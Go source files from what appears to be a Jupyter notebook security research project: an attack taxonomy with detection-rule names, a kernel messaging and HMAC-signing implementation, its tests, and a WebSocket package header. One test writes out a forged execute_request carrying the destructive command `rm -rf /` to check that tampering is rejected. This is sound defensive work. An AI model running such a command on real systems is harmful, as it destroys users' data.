				"or encrypted to evade content inspection.",
			Entries:        []EntryInterface{EntryUntrustedCell, EntryWebSocket, EntryRESTAPI},
			Stages:         []Stage{StageExecution, StageExfiltration, StageDefenseEvasion},
			References:     []string{"arXiv:2409.19456 §III", "stealthML (IEEE CSR'23)"},
			ObservedInWild: true,
			DetectedBy: []string{"EX-001-outbound-post", "EX-002-bulk-read-then-post",
				"EX-003-encoded-upload", "EX-004-highentropy-upload", "anomaly.exfil"},
			SimulatedBy: "attacks.Exfiltration",
		},
		{
			Class: Cryptomining,
			Title: "Resource abuse for cryptocurrency mining",
			Description: "Supercomputer allocations are burned by miners launched " +
				"from notebook cells or terminals, often duty-cycled to evade " +
				"utilization dashboards.",
			Entries:        []EntryInterface{EntryUntrustedCell, EntryTerminal},
			Stages:         []Stage{StageExecution, StageResourceAbuse, StageDefenseEvasion},
			References:     []string{"arXiv:2409.19456 §I", "CVE-2024-22415"},
			ObservedInWild: true,
			DetectedBy: []string{"CM-001-miner-strings", "CM-002-sustained-cpu",
				"CM-003-cpu-burst-series", "anomaly.miner"},
			SimulatedBy: "attacks.Cryptominer",
		},
		{
			Class: Misconfig,
			Title: "Security misconfiguration",
			Description: "Servers exposed with authentication disabled, tokens in " +
				"URLs, wildcard CORS, terminals enabled, or missing TLS — the " +
				"configuration archetype of internet-scanned Jupyter incidents.",
			Entries:        []EntryInterface{EntryRESTAPI, EntryAuthSurface},
			Stages:         []Stage{StageRecon, StageInitialAccess},
			References:     []string{"arXiv:2409.19456 §III", "NASA HECC secure-Jupyter KB"},
			ObservedInWild: true,
			DetectedBy: []string{"MC-001-unauth-api-sweep", "MC-002-open-server-access",
				"MC-003-token-in-url", "misconfig.Scanner"},
			SimulatedBy: "attacks.MisconfigProbe",
		},
		{
			Class: AccountTakeover,
			Title: "Account takeover",
			Description: "Password guessing and credential stuffing against the " +
				"login and token surface, leveraging SSO integration weaknesses.",
			Entries:        []EntryInterface{EntryAuthSurface},
			Stages:         []Stage{StageRecon, StageInitialAccess, StagePersistence},
			References:     []string{"arXiv:2409.19456 Fig. 3", "Basney et al. DependSys'20", "CVE-2020-16977", "CVE-2021-32798"},
			ObservedInWild: true,
			DetectedBy:     []string{"AT-001-bruteforce", "AT-002-success-after-failures"},
			SimulatedBy:    "attacks.BruteForce",
		},
		{
			Class: DoS,
			Title: "Denial of service and monitor evasion",
			Description: "Request floods and low-and-slow trains that both disrupt " +
				"the gateway and probe the integrity of security monitors.",
			Entries:        []EntryInterface{EntryRESTAPI, EntryWebSocket},
			Stages:         []Stage{StageDefenseEvasion, StageImpact},
			References:     []string{"arXiv:2409.19456 §IV.A"},
			ObservedInWild: false,
			DetectedBy:     []string{"DS-001-request-flood", "anomaly.lowslow"},
			SimulatedBy:    "attacks.LowSlowDoS",
		},
		{
			Class: ZeroDay,
			Title: "Unknown-unknown zero-day exploits",
			Description: "Novel exploitation of the kernel protocol, extensions, or " +
				"supply chain; approximated by anomaly detection and terminal " +
				"behavior signatures rather than signatures of known payloads.",
			Entries:        []EntryInterface{EntryUntrustedCell, EntryTerminal, EntryWebSocket},
			Stages:         []Stage{StageInitialAccess, StageExecution, StageDefenseEvasion},
			References:     []string{"arXiv:2409.19456 Fig. 3"},
			ObservedInWild: false,
			DetectedBy:     []string{"TS-001-recon-commands", "TS-002-downloader", "NB-001-malicious-notebook"},
			SimulatedBy:    "attacks.TerminalRecon",
		},
	}}
}

// ByClass returns the entry for a class, or nil.
func (r *Registry) ByClass(c Class) *Entry {
	for i := range r.Entries {
		if r.Entries[i].Class == c {
			return &r.Entries[i]
		}
	}
	return nil
}

// Classes returns all class identifiers, sorted.
func (r *Registry) Classes() []Class {
	out := make([]Class, len(r.Entries))
	for i, e := range r.Entries {
		out[i] = e.Class
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// JSON serializes the registry.
func (r *Registry) JSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// Render prints Fig. 1 as a text tree: the two branches (in the wild
// vs internally identified) with class boxes underneath.
func (r *Registry) Render() string {
	var b strings.Builder
	b.WriteString("Taxonomy of Jupyter Notebook attacks (Fig. 1)\n")
	b.WriteString("=============================================\n")
	branch := func(title string, inWild bool) {
		b.WriteString(title + "\n")
		for _, e := range r.Entries {
			if e.ObservedInWild != inWild {
				continue
			}
			b.WriteString(fmt.Sprintf("├── [%s] %s\n", e.Class, e.Title))
			b.WriteString(fmt.Sprintf("│     entry: %s\n", joinEntries(e.Entries)))
			b.WriteString(fmt.Sprintf("│     kill chain: %s\n", joinStages(e.Stages)))
			b.WriteString(fmt.Sprintf("│     detected by: %s\n", strings.Join(e.DetectedBy, ", ")))
		}
	}
	branch("Attacks in the wild:", true)
	branch("Internally identified / anticipated:", false)
	return b.String()
}

func joinEntries(es []EntryInterface) string {
	parts := make([]string, len(es))
	for i, e := range es {
		parts[i] = string(e)
	}
	return strings.Join(parts, ", ")
}

func joinStages(ss []Stage) string {
	parts := make([]string, len(ss))
	for i, s := range ss {
		parts[i] = string(s)
	}
	return strings.Join(parts, " -> ")
}

// Validate checks structural completeness of the registry.
func (r *Registry) Validate() error {
	if len(r.Entries) == 0 {
		return fmt.Errorf("taxonomy: empty registry")
	}
	seen := map[Class]bool{}
	for _, e := range r.Entries {
		if seen[e.Class] {
			return fmt.Errorf("taxonomy: duplicate class %s", e.Class)
		}
		seen[e.Class] = true
		if e.Title == "" || e.Description == "" {
			return fmt.Errorf("taxonomy: class %s missing title/description", e.Class)
		}
		if len(e.Entries) == 0 {
			return fmt.Errorf("taxonomy: class %s has no entry interfaces", e.Class)
		}
		if len(e.DetectedBy) == 0 {
			return fmt.Errorf("taxonomy: class %s has no detection coverage", e.Class)
		}
	}
	return nil
}
