// Package jmsg implements the Jupyter kernel messaging protocol: the
// message model (header, parent header, metadata, content, buffers),
// the ZMQ-style wire format with the <IDS|MSG> delimiter, and
// HMAC-SHA256 message signing as specified by jupyter-client's
// messaging documentation.
//
// The protocol is the paper's Fig. 2: every interaction between a
// Jupyter front end and a kernel — executing a cell, streaming stdout,
// kernel status — is one of these messages on one of five channels
// (shell, iopub, control, stdin, hb). The HMAC signature is the sole
// integrity mechanism; a leaked or weak connection key lets an
// attacker forge execute_requests.
package jmsg

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"time"
)

// Channel identifies one of the kernel communication channels.
type Channel string

// The five channels of the Jupyter protocol.
const (
	ChannelShell   Channel = "shell"   // request/reply: execution, introspection
	ChannelIOPub   Channel = "iopub"   // broadcast: streams, status, results
	ChannelControl Channel = "control" // priority: interrupt, shutdown
	ChannelStdin   Channel = "stdin"   // kernel-initiated input requests
	ChannelHB      Channel = "hb"      // heartbeat echo
)

// Channels lists all channels in protocol order.
func Channels() []Channel {
	return []Channel{ChannelShell, ChannelIOPub, ChannelControl, ChannelStdin, ChannelHB}
}

// Valid reports whether c is a known channel.
func (c Channel) Valid() bool {
	switch c {
	case ChannelShell, ChannelIOPub, ChannelControl, ChannelStdin, ChannelHB:
		return true
	}
	return false
}

// Well-known message types.
const (
	TypeExecuteRequest   = "execute_request"
	TypeExecuteReply     = "execute_reply"
	TypeExecuteInput     = "execute_input"
	TypeExecuteResult    = "execute_result"
	TypeStream           = "stream"
	TypeStatus           = "status"
	TypeError            = "error"
	TypeKernelInfoReq    = "kernel_info_request"
	TypeKernelInfoReply  = "kernel_info_reply"
	TypeInterruptRequest = "interrupt_request"
	TypeInterruptReply   = "interrupt_reply"
	TypeShutdownRequest  = "shutdown_request"
	TypeShutdownReply    = "shutdown_reply"
	TypeInputRequest     = "input_request"
	TypeInputReply       = "input_reply"
	TypeCommOpen         = "comm_open"
	TypeCommMsg          = "comm_msg"
	TypeCommClose        = "comm_close"
	TypeInspectRequest   = "inspect_request"
	TypeInspectReply     = "inspect_reply"
	TypeCompleteRequest  = "complete_request"
	TypeCompleteReply    = "complete_reply"
)

// ChannelFor returns the canonical channel a request message type
// travels on, and whether the type is known.
func ChannelFor(msgType string) (Channel, bool) {
	switch msgType {
	case TypeExecuteRequest, TypeExecuteReply, TypeKernelInfoReq, TypeKernelInfoReply,
		TypeInspectRequest, TypeInspectReply, TypeCompleteRequest, TypeCompleteReply,
		TypeCommOpen, TypeCommMsg, TypeCommClose:
		return ChannelShell, true
	case TypeExecuteInput, TypeExecuteResult, TypeStream, TypeStatus, TypeError:
		return ChannelIOPub, true
	case TypeInterruptRequest, TypeInterruptReply, TypeShutdownRequest, TypeShutdownReply:
		return ChannelControl, true
	case TypeInputRequest, TypeInputReply:
		return ChannelStdin, true
	}
	return "", false
}

// ProtocolVersion is the messaging protocol version we emit.
const ProtocolVersion = "5.4"

// Header is the common message header.
type Header struct {
	MsgID    string `json:"msg_id"`
	Session  string `json:"session"`
	Username string `json:"username"`
	Date     string `json:"date"` // ISO 8601
	MsgType  string `json:"msg_type"`
	Version  string `json:"version"`
}

// Message is one protocol message. Content is kept as raw JSON at the
// transport layer; typed accessors decode it.
type Message struct {
	Identities   [][]byte        `json:"-"`
	Header       Header          `json:"header"`
	ParentHeader Header          `json:"parent_header"`
	Metadata     json.RawMessage `json:"metadata"`
	Content      json.RawMessage `json:"content"`
	Buffers      [][]byte        `json:"-"`
	Channel      Channel         `json:"channel,omitempty"`
}

// New constructs a message of the given type with marshaled content.
// The msg_id must be unique per session; callers supply it so tests
// stay deterministic.
func New(msgType, msgID, session, username string, now time.Time, content any) (*Message, error) {
	raw, err := json.Marshal(content)
	if err != nil {
		return nil, fmt.Errorf("jmsg: marshal content: %w", err)
	}
	return &Message{
		Header: Header{
			MsgID:    msgID,
			Session:  session,
			Username: username,
			Date:     now.UTC().Format(time.RFC3339Nano),
			MsgType:  msgType,
			Version:  ProtocolVersion,
		},
		Metadata: json.RawMessage("{}"),
		Content:  raw,
	}, nil
}

// Reply constructs a reply to parent with the given type and content,
// inheriting session and username and recording the parent header.
func Reply(parent *Message, msgType, msgID string, now time.Time, content any) (*Message, error) {
	m, err := New(msgType, msgID, parent.Header.Session, parent.Header.Username, now, content)
	if err != nil {
		return nil, err
	}
	m.ParentHeader = parent.Header
	m.Identities = parent.Identities
	return m, nil
}

// DecodeContent unmarshals the message content into v.
func (m *Message) DecodeContent(v any) error {
	if len(m.Content) == 0 {
		return errors.New("jmsg: empty content")
	}
	return json.Unmarshal(m.Content, v)
}

// ExecuteRequest is the content of an execute_request message.
type ExecuteRequest struct {
	Code         string         `json:"code"`
	Silent       bool           `json:"silent"`
	StoreHistory bool           `json:"store_history"`
	UserExprs    map[string]any `json:"user_expressions,omitempty"`
	AllowStdin   bool           `json:"allow_stdin"`
	StopOnError  bool           `json:"stop_on_error"`
}

// ExecuteReply is the content of an execute_reply message.
type ExecuteReply struct {
	Status         string   `json:"status"` // "ok" | "error" | "aborted"
	ExecutionCount int      `json:"execution_count"`
	EName          string   `json:"ename,omitempty"`
	EValue         string   `json:"evalue,omitempty"`
	Traceback      []string `json:"traceback,omitempty"`
}

// StreamContent is the content of a stream message.
type StreamContent struct {
	Name string `json:"name"` // "stdout" | "stderr"
	Text string `json:"text"`
}

// StatusContent is the content of a status message.
type StatusContent struct {
	ExecutionState string `json:"execution_state"` // "busy" | "idle" | "starting"
}

// ErrorContent is the content of an error message.
type ErrorContent struct {
	EName     string   `json:"ename"`
	EValue    string   `json:"evalue"`
	Traceback []string `json:"traceback"`
}

// KernelInfoReply is the content of a kernel_info_reply.
type KernelInfoReply struct {
	Status                string `json:"status"`
	ProtocolVersion       string `json:"protocol_version"`
	Implementation        string `json:"implementation"`
	ImplementationVersion string `json:"implementation_version"`
	Banner                string `json:"banner"`
	LanguageInfo          struct {
		Name          string `json:"name"`
		Version       string `json:"version"`
		FileExtension string `json:"file_extension"`
	} `json:"language_info"`
}

// ---- Wire format ----
//
// The ZMQ wire format is a list of frames:
//
//	[identities...] <IDS|MSG> signature header parent_header metadata content [buffers...]
//
// The signature is hex HMAC-SHA256 over the four JSON frames. We frame
// the whole list for byte-stream transports with a simple
// length-prefixed encoding (uint32 frame count, then per frame uint32
// length + bytes), which stands in for ZMQ's own framing.

// Delimiter separates routing identities from message frames.
var Delimiter = []byte("<IDS|MSG>")

// Wire errors.
var (
	ErrNoDelimiter  = errors.New("jmsg: missing <IDS|MSG> delimiter")
	ErrShortMessage = errors.New("jmsg: too few frames after delimiter")
	ErrBadSignature = errors.New("jmsg: HMAC signature mismatch")
	ErrFrameTooBig  = errors.New("jmsg: frame exceeds limit")
)

// MaxFrameSize bounds a single frame during decoding (16 MiB), a
// defensive limit against memory-exhaustion payloads.
const MaxFrameSize = 16 << 20

// Signer signs and verifies messages with a shared connection key.
// An empty key disables signing (signature frame is empty) — exactly
// the misconfiguration the paper's taxonomy flags, and something the
// misconfig scanner detects.
type Signer struct {
	key []byte
}

// NewSigner returns a signer for the given connection key.
func NewSigner(key []byte) *Signer {
	return &Signer{key: append([]byte(nil), key...)}
}

// Keyless reports whether signing is disabled.
func (s *Signer) Keyless() bool { return len(s.key) == 0 }

// Sign computes the hex HMAC-SHA256 signature over the four message
// frames. Returns "" when signing is disabled.
func (s *Signer) Sign(header, parent, metadata, content []byte) string {
	if s.Keyless() {
		return ""
	}
	mac := hmac.New(sha256.New, s.key)
	mac.Write(header)
	mac.Write(parent)
	mac.Write(metadata)
	mac.Write(content)
	return hex.EncodeToString(mac.Sum(nil))
}

// Verify checks a signature against the four message frames using a
// constant-time comparison.
func (s *Signer) Verify(sig string, header, parent, metadata, content []byte) bool {
	if s.Keyless() {
		return sig == ""
	}
	want := s.Sign(header, parent, metadata, content)
	return hmac.Equal([]byte(sig), []byte(want))
}

// Frames serializes the message to its ZMQ frame list, signing with s.
func (m *Message) Frames(s *Signer) ([][]byte, error) {
	header, err := json.Marshal(m.Header)
	if err != nil {
		return nil, fmt.Errorf("jmsg: marshal header: %w", err)
	}
	parent, err := json.Marshal(m.ParentHeader)
	if err != nil {
		return nil, fmt.Errorf("jmsg: marshal parent: %w", err)
	}
	metadata := m.Metadata
	if len(metadata) == 0 {
		metadata = json.RawMessage("{}")
	}
	content := m.Content
	if len(content) == 0 {
		content = json.RawMessage("{}")
	}
	sig := s.Sign(header, parent, metadata, content)
	frames := make([][]byte, 0, len(m.Identities)+6+len(m.Buffers))
	frames = append(frames, m.Identities...)
	frames = append(frames, Delimiter, []byte(sig), header, parent, metadata, content)
	frames = append(frames, m.Buffers...)
	return frames, nil
}

// FromFrames parses a ZMQ frame list into a Message, verifying the
// signature with s. The returned message shares frame backing arrays.
func FromFrames(frames [][]byte, s *Signer) (*Message, error) {
	di := -1
	for i, f := range frames {
		if bytes.Equal(f, Delimiter) {
			di = i
			break
		}
	}
	if di < 0 {
		return nil, ErrNoDelimiter
	}
	rest := frames[di+1:]
	if len(rest) < 5 {
		return nil, ErrShortMessage
	}
	sig, header, parent, metadata, content := rest[0], rest[1], rest[2], rest[3], rest[4]
	if !s.Verify(string(sig), header, parent, metadata, content) {
		return nil, ErrBadSignature
	}
	var m Message
	m.Identities = frames[:di]
	if err := json.Unmarshal(header, &m.Header); err != nil {
		return nil, fmt.Errorf("jmsg: header: %w", err)
	}
	if len(parent) > 0 && !bytes.Equal(parent, []byte("{}")) {
		if err := json.Unmarshal(parent, &m.ParentHeader); err != nil {
			return nil, fmt.Errorf("jmsg: parent header: %w", err)
		}
	}
	m.Metadata = append(json.RawMessage(nil), metadata...)
	m.Content = append(json.RawMessage(nil), content...)
	m.Buffers = rest[5:]
	return &m, nil
}

// EncodeFrames writes the frame list with length-prefixed framing:
// uint32 count, then per-frame uint32 length + payload, big-endian.
func EncodeFrames(frames [][]byte) []byte {
	n := 4
	for _, f := range frames {
		n += 4 + len(f)
	}
	out := make([]byte, 0, n)
	var hdr [4]byte
	binary.BigEndian.PutUint32(hdr[:], uint32(len(frames)))
	out = append(out, hdr[:]...)
	for _, f := range frames {
		binary.BigEndian.PutUint32(hdr[:], uint32(len(f)))
		out = append(out, hdr[:]...)
		out = append(out, f...)
	}
	return out
}

// DecodeFrames parses length-prefixed framing produced by EncodeFrames.
func DecodeFrames(data []byte) ([][]byte, error) {
	if len(data) < 4 {
		return nil, errors.New("jmsg: short frame header")
	}
	count := binary.BigEndian.Uint32(data)
	data = data[4:]
	if count > 1<<16 {
		return nil, fmt.Errorf("jmsg: implausible frame count %d", count)
	}
	frames := make([][]byte, 0, count)
	for i := uint32(0); i < count; i++ {
		if len(data) < 4 {
			return nil, errors.New("jmsg: truncated frame length")
		}
		l := binary.BigEndian.Uint32(data)
		data = data[4:]
		if l > MaxFrameSize {
			return nil, ErrFrameTooBig
		}
		if uint32(len(data)) < l {
			return nil, errors.New("jmsg: truncated frame payload")
		}
		frames = append(frames, data[:l])
		data = data[l:]
	}
	if len(data) != 0 {
		return nil, errors.New("jmsg: trailing bytes after frames")
	}
	return frames, nil
}

// Marshal serializes and signs the message in one step.
func (m *Message) Marshal(s *Signer) ([]byte, error) {
	frames, err := m.Frames(s)
	if err != nil {
		return nil, err
	}
	return EncodeFrames(frames), nil
}

// Unmarshal parses and verifies a message encoded by Marshal.
func Unmarshal(data []byte, s *Signer) (*Message, error) {
	frames, err := DecodeFrames(data)
	if err != nil {
		return nil, err
	}
	return FromFrames(frames, s)
}

// ---- WebSocket JSON representation ----
//
// Browsers talk to the Jupyter server over a single WebSocket carrying
// all channels; messages are JSON objects with a "channel" field. The
// HMAC does not cross this hop — the paper's observability argument:
// on-path network monitors see WebSocket/JSON, not signed ZMQ frames.

// wsEnvelope mirrors the browser-facing JSON message shape.
type wsEnvelope struct {
	Header       Header          `json:"header"`
	ParentHeader json.RawMessage `json:"parent_header"`
	Metadata     json.RawMessage `json:"metadata"`
	Content      json.RawMessage `json:"content"`
	Channel      Channel         `json:"channel"`
	BufferPaths  []any           `json:"buffer_paths,omitempty"`
}

// MarshalWS encodes the message in the browser-facing JSON form.
func (m *Message) MarshalWS() ([]byte, error) {
	parent := json.RawMessage("{}")
	if m.ParentHeader.MsgID != "" {
		b, err := json.Marshal(m.ParentHeader)
		if err != nil {
			return nil, err
		}
		parent = b
	}
	metadata := m.Metadata
	if len(metadata) == 0 {
		metadata = json.RawMessage("{}")
	}
	content := m.Content
	if len(content) == 0 {
		content = json.RawMessage("{}")
	}
	return json.Marshal(wsEnvelope{
		Header: m.Header, ParentHeader: parent,
		Metadata: metadata, Content: content, Channel: m.Channel,
	})
}

// UnmarshalWS decodes a browser-facing JSON message.
func UnmarshalWS(data []byte) (*Message, error) {
	var env wsEnvelope
	if err := json.Unmarshal(data, &env); err != nil {
		return nil, fmt.Errorf("jmsg: ws decode: %w", err)
	}
	m := &Message{
		Header:   env.Header,
		Metadata: env.Metadata,
		Content:  env.Content,
		Channel:  env.Channel,
	}
	if len(env.ParentHeader) > 0 && !bytes.Equal(env.ParentHeader, []byte("{}")) &&
		!bytes.Equal(env.ParentHeader, []byte("null")) {
		if err := json.Unmarshal(env.ParentHeader, &m.ParentHeader); err != nil {
			return nil, fmt.Errorf("jmsg: ws parent header: %w", err)
		}
	}
	return m, nil
}

// ConnectionInfo mirrors a kernel connection file: the ports, key, and
// transport a client needs to attach to a kernel. Leaking this file is
// a direct kernel-takeover primitive.
type ConnectionInfo struct {
	Transport       string `json:"transport"`
	IP              string `json:"ip"`
	ShellPort       int    `json:"shell_port"`
	IOPubPort       int    `json:"iopub_port"`
	ControlPort     int    `json:"control_port"`
	StdinPort       int    `json:"stdin_port"`
	HBPort          int    `json:"hb_port"`
	Key             string `json:"key"`
	SignatureScheme string `json:"signature_scheme"`
}

// NewConnectionInfo returns connection info with sequential ports
// starting at base and the given key.
func NewConnectionInfo(ip string, base int, key string) ConnectionInfo {
	return ConnectionInfo{
		Transport:       "tcp",
		IP:              ip,
		ShellPort:       base,
		IOPubPort:       base + 1,
		ControlPort:     base + 2,
		StdinPort:       base + 3,
		HBPort:          base + 4,
		Key:             key,
		SignatureScheme: "hmac-sha256",
	}
}

// Validate checks the connection info for structural sanity and
// returns a list of security findings (weak/no key, wildcard bind).
func (ci ConnectionInfo) Validate() []string {
	var findings []string
	if ci.Key == "" {
		findings = append(findings, "empty connection key: message signing disabled")
	} else if len(ci.Key) < 16 {
		findings = append(findings, "short connection key: brute-forceable HMAC key")
	}
	if ci.IP == "0.0.0.0" || ci.IP == "::" {
		findings = append(findings, "kernel ports bound to all interfaces")
	}
	if ci.SignatureScheme != "hmac-sha256" && ci.SignatureScheme != "" {
		findings = append(findings, "non-standard signature scheme: "+ci.SignatureScheme)
	}
	return findings
}
