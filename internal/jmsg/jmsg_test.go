package jmsg

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
	"time"
)

var t0 = time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)

func mustNew(t *testing.T, msgType string, content any) *Message {
	t.Helper()
	m, err := New(msgType, "msg-1", "sess-1", "alice", t0, content)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestChannels(t *testing.T) {
	if len(Channels()) != 5 {
		t.Fatalf("channels = %v", Channels())
	}
	for _, c := range Channels() {
		if !c.Valid() {
			t.Errorf("channel %s invalid", c)
		}
	}
	if Channel("bogus").Valid() {
		t.Fatal("bogus channel valid")
	}
}

func TestChannelFor(t *testing.T) {
	cases := map[string]Channel{
		TypeExecuteRequest:   ChannelShell,
		TypeStream:           ChannelIOPub,
		TypeStatus:           ChannelIOPub,
		TypeShutdownRequest:  ChannelControl,
		TypeInputRequest:     ChannelStdin,
		TypeKernelInfoReply:  ChannelShell,
		TypeInterruptRequest: ChannelControl,
	}
	for mt, want := range cases {
		got, ok := ChannelFor(mt)
		if !ok || got != want {
			t.Errorf("ChannelFor(%s) = %s,%v want %s", mt, got, ok, want)
		}
	}
	if _, ok := ChannelFor("martian"); ok {
		t.Fatal("unknown type resolved")
	}
}

func TestWireRoundTrip(t *testing.T) {
	signer := NewSigner([]byte("connection-key"))
	m := mustNew(t, TypeExecuteRequest, ExecuteRequest{Code: "print(1)", StoreHistory: true})
	m.Identities = [][]byte{[]byte("client-7")}
	m.Buffers = [][]byte{{0xde, 0xad}}
	data, err := m.Marshal(signer)
	if err != nil {
		t.Fatal(err)
	}
	back, err := Unmarshal(data, signer)
	if err != nil {
		t.Fatal(err)
	}
	if back.Header.MsgType != TypeExecuteRequest || back.Header.Session != "sess-1" {
		t.Fatalf("header = %+v", back.Header)
	}
	var req ExecuteRequest
	if err := back.DecodeContent(&req); err != nil {
		t.Fatal(err)
	}
	if req.Code != "print(1)" || !req.StoreHistory {
		t.Fatalf("content = %+v", req)
	}
	if len(back.Identities) != 1 || string(back.Identities[0]) != "client-7" {
		t.Fatalf("identities = %q", back.Identities)
	}
	if len(back.Buffers) != 1 || !bytes.Equal(back.Buffers[0], []byte{0xde, 0xad}) {
		t.Fatalf("buffers = %v", back.Buffers)
	}
}

func TestSignatureRejectsTamper(t *testing.T) {
	signer := NewSigner([]byte("connection-key"))
	m := mustNew(t, TypeExecuteRequest, ExecuteRequest{Code: "print(1)"})
	frames, err := m.Frames(signer)
	if err != nil {
		t.Fatal(err)
	}
	// Tamper with content (last frame).
	frames[len(frames)-1] = []byte(`{"code":"shell(\"rm -rf /\")"}`)
	if _, err := FromFrames(frames, signer); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("tampered message accepted: %v", err)
	}
}

func TestSignatureRejectsWrongKey(t *testing.T) {
	m := mustNew(t, TypeStatus, StatusContent{ExecutionState: "idle"})
	data, err := m.Marshal(NewSigner([]byte("key-A")))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Unmarshal(data, NewSigner([]byte("key-B"))); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("wrong key accepted: %v", err)
	}
}

func TestKeylessSigner(t *testing.T) {
	signer := NewSigner(nil)
	if !signer.Keyless() {
		t.Fatal("nil key not keyless")
	}
	m := mustNew(t, TypeStatus, StatusContent{ExecutionState: "busy"})
	data, err := m.Marshal(signer)
	if err != nil {
		t.Fatal(err)
	}
	back, err := Unmarshal(data, signer)
	if err != nil {
		t.Fatal(err)
	}
	if back.Header.MsgType != TypeStatus {
		t.Fatal("round trip failed")
	}
	// A keyless verifier must reject any non-empty signature (it
	// cannot have produced one).
	frames, _ := m.Frames(NewSigner([]byte("k")))
	if _, err := FromFrames(frames, signer); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("keyless verifier accepted signed frames: %v", err)
	}
}

func TestSignDeterministic(t *testing.T) {
	s := NewSigner([]byte("k"))
	h, p, md, c := []byte(`{"a":1}`), []byte(`{}`), []byte(`{}`), []byte(`{"code":"x"}`)
	if s.Sign(h, p, md, c) != s.Sign(h, p, md, c) {
		t.Fatal("sign not deterministic")
	}
	if s.Sign(h, p, md, c) == s.Sign(h, p, md, []byte(`{"code":"y"}`)) {
		t.Fatal("different content same signature")
	}
}

func TestSignVerifyProperty(t *testing.T) {
	f := func(key, header, parent, metadata, content []byte) bool {
		s := NewSigner(key)
		sig := s.Sign(header, parent, metadata, content)
		return s.Verify(sig, header, parent, metadata, content)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestFramesMissingDelimiter(t *testing.T) {
	s := NewSigner(nil)
	if _, err := FromFrames([][]byte{[]byte("a"), []byte("b")}, s); !errors.Is(err, ErrNoDelimiter) {
		t.Fatalf("err = %v", err)
	}
}

func TestFramesTooShort(t *testing.T) {
	s := NewSigner(nil)
	frames := [][]byte{Delimiter, []byte(""), []byte("{}")}
	if _, err := FromFrames(frames, s); !errors.Is(err, ErrShortMessage) {
		t.Fatalf("err = %v", err)
	}
}

func TestEncodeDecodeFramesProperty(t *testing.T) {
	f := func(frames [][]byte) bool {
		data := EncodeFrames(frames)
		back, err := DecodeFrames(data)
		if err != nil {
			return false
		}
		if len(back) != len(frames) {
			return false
		}
		for i := range frames {
			if !bytes.Equal(back[i], frames[i]) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestDecodeFramesTruncation(t *testing.T) {
	data := EncodeFrames([][]byte{[]byte("hello"), []byte("world")})
	for cut := 1; cut < len(data); cut++ {
		if _, err := DecodeFrames(data[:cut]); err == nil {
			t.Fatalf("truncated at %d accepted", cut)
		}
	}
}

func TestDecodeFramesTrailingGarbage(t *testing.T) {
	data := EncodeFrames([][]byte{[]byte("x")})
	if _, err := DecodeFrames(append(data, 0x00)); err == nil {
		t.Fatal("trailing bytes accepted")
	}
}

func TestReplyThreading(t *testing.T) {
	parent := mustNew(t, TypeExecuteRequest, ExecuteRequest{Code: "x"})
	reply, err := Reply(parent, TypeExecuteReply, "msg-2", t0.Add(time.Second), ExecuteReply{Status: "ok", ExecutionCount: 1})
	if err != nil {
		t.Fatal(err)
	}
	if reply.ParentHeader.MsgID != "msg-1" {
		t.Fatalf("parent header = %+v", reply.ParentHeader)
	}
	if reply.Header.Session != parent.Header.Session {
		t.Fatal("session not inherited")
	}
}

func TestWSRoundTrip(t *testing.T) {
	m := mustNew(t, TypeExecuteRequest, ExecuteRequest{Code: "print(42)"})
	m.Channel = ChannelShell
	parent := mustNew(t, TypeKernelInfoReq, map[string]any{})
	reply, _ := Reply(parent, TypeStatus, "msg-3", t0, StatusContent{ExecutionState: "busy"})
	reply.Channel = ChannelIOPub

	for _, msg := range []*Message{m, reply} {
		data, err := msg.MarshalWS()
		if err != nil {
			t.Fatal(err)
		}
		back, err := UnmarshalWS(data)
		if err != nil {
			t.Fatal(err)
		}
		if back.Header.MsgType != msg.Header.MsgType || back.Channel != msg.Channel {
			t.Fatalf("ws round trip: %+v vs %+v", back.Header, msg.Header)
		}
		if back.ParentHeader.MsgID != msg.ParentHeader.MsgID {
			t.Fatalf("parent = %+v want %+v", back.ParentHeader, msg.ParentHeader)
		}
	}
}

func TestUnmarshalWSRejectsGarbage(t *testing.T) {
	if _, err := UnmarshalWS([]byte("not json")); err == nil {
		t.Fatal("garbage accepted")
	}
}

func TestConnectionInfo(t *testing.T) {
	ci := NewConnectionInfo("127.0.0.1", 51000, "0123456789abcdef0123")
	if ci.HBPort != 51004 || ci.SignatureScheme != "hmac-sha256" {
		t.Fatalf("ci = %+v", ci)
	}
	if findings := ci.Validate(); len(findings) != 0 {
		t.Fatalf("findings on good config: %v", findings)
	}
}

func TestConnectionInfoFindings(t *testing.T) {
	cases := []struct {
		ci   ConnectionInfo
		want int
	}{
		{NewConnectionInfo("0.0.0.0", 51000, ""), 2},        // empty key + wildcard bind
		{NewConnectionInfo("127.0.0.1", 51000, "short"), 1}, // short key
	}
	for i, c := range cases {
		if got := len(c.ci.Validate()); got != c.want {
			t.Errorf("case %d: findings = %d want %d: %v", i, got, c.want, c.ci.Validate())
		}
	}
}

func TestDecodeFrameTooBig(t *testing.T) {
	var buf []byte
	buf = append(buf, 0, 0, 0, 1) // one frame
	buf = append(buf, 0xFF, 0xFF, 0xFF, 0xFF)
	if _, err := DecodeFrames(buf); !errors.Is(err, ErrFrameTooBig) {
		t.Fatalf("err = %v", err)
	}
}
