// Package wsproto is a from-scratch RFC 6455 WebSocket implementation
// over net.Conn: the opening handshake (Sec-WebSocket-Key/Accept),
// frame encoding and decoding with client masking, fragmentation,
// control frames (ping/pong/close), and close-code semantics.
//
// Jupyter multiplexes all kernel channels over one WebSocket; the
// paper's observability argument is that network tools must parse this
// layer before they can see any Jupyter semantics. The netmon package
// reuses the frame codec here as its analyzer, so the monitor and the
// server agree byte-for-byte on the protocol.
package wsproto

import (
	"bufio"
	"crypto/sha1"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

